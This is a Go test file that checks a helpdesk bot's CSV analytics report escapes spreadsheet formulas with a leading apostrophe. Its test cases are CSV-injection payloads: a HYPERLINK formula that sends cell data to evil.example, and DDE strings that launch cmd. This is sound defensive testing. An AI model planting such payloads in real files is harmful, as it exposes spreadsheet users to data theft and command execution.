package main

import (
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/helpdeskbot/helpdeskbot/bot/analytics"
	"github.com/helpdeskbot/helpdeskbot/bot/analytics/sqlite"
)

// storeWith writes turns into a fresh SQLite analytics store that the CLI
// then reads (HELPDESK_ANALYTICS_PATH).
func storeWith(t *testing.T, turns ...analytics.Turn) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "turns.db")
	s, err := sqlite.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.AddTurns(context.Background(), turns); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HELPDESK_ANALYTICS_PATH", path)
	t.Setenv("HELPDESK_LOG_USER_HASH_KEY", "test-key")
}

// TestReportCSVNeutralizesFormulas shows that a stored question cannot
// become a live spreadsheet formula: cells starting with = + - @, a tab or
// a carriage return get a leading ' (OWASP's advice on CSV injection).
func TestReportCSVNeutralizesFormulas(t *testing.T) {
	tests := []struct{ name, question string }{
		{"hyperlink", `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"plus", `+cmd|' /C calc'!A0`},
		{"minus", `-2+3+cmd|' /C calc'!A0`},
		{"at", `@SUM(A1:A9)`},
		{"tab", "\t=cmd"},
		{"carriage return", "\r=cmd"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			now := time.Now().UTC()
			storeWith(t,
				analytics.Turn{Time: now, Adapter: "slack", User: "u", Text: tt.question, Intent: "none", Outcome: "fallback", Confidence: 0.1},
				analytics.Turn{Time: now, Adapter: "slack", User: "u", Text: tt.question, Intent: "selfie", Outcome: "answered", Confidence: 0.2},
			)
			r := runCLI(t, "", "report", "--csv")
			if r.code != 0 {
				t.Fatalf("exit %d: %s", r.code, r.stderr)
			}
			rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
			if err != nil {
				t.Fatalf("%v\n%s", err, r.stdout)
			}
			seen := 0
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("live formula cell %q in row %q", cell, row)
					}
				}
				if (row[0] == "unanswered" || row[0] == "low_confidence") && row[3] == "'"+tt.question {
					seen++
				}
			}
			if seen != 2 {
				t.Errorf("the question, prefixed with ', is in %d rows, want 2 (unanswered, low_confidence):\n%s", seen, r.stdout)
			}
		})
	}
}
